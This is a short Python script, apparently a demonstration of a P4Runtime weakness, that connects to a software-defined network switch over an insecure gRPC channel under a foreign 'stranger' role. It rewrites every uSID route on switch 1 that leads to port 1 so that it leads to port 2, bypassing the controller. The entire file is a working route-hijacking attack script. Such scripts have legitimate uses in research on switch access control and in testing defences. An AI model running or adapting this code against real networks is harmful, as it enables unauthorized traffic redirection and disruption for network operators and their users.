"""``python wrong_route.py ADDRESS``: change routes of the first switch without the controller.

The client has another P4Runtime role than the controller. Afterwards every uSID route of switch 1 that led to
port 1 leads to port 2.
"""

from __future__ import annotations

import queue
import sys

import grpc
from finsy.proto import p4r, p4r_grpc

ROLE = "stranger"


def main(address: str) -> int:
    """Change the routes; return the exit code."""
    stub = p4r_grpc.P4RuntimeStub(grpc.insecure_channel(address))
    requests: queue.Queue[p4r.StreamMessageRequest] = queue.Queue()
    hello = p4r.StreamMessageRequest()
    hello.arbitration.device_id = 1
    hello.arbitration.role.name = ROLE
    hello.arbitration.election_id.low = 1
    requests.put(hello)
    answers = stub.StreamChannel(iter(requests.get, None))
    next(answers)
    wanted = p4r.ReadRequest(device_id=1, role=ROLE)
    wanted.entities.add().table_entry.table_id = 0
    write = p4r.WriteRequest(device_id=1, role=ROLE)
    write.election_id.low = 1
    for answer in stub.Read(wanted):
        for entity in answer.entities:
            entry = entity.table_entry
            params = entry.action.action.params
            if entry.match and entry.match[0].HasField("lpm") and params and params[0].value == b"\x01":
                params[0].value = b"\x02"
                update = write.updates.add(type=p4r.Update.MODIFY)
                update.entity.table_entry.CopyFrom(entry)
    stub.Write(write)
    print(f"{len(write.updates)} routes changed", file=sys.stderr)
    return 0 if write.updates else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
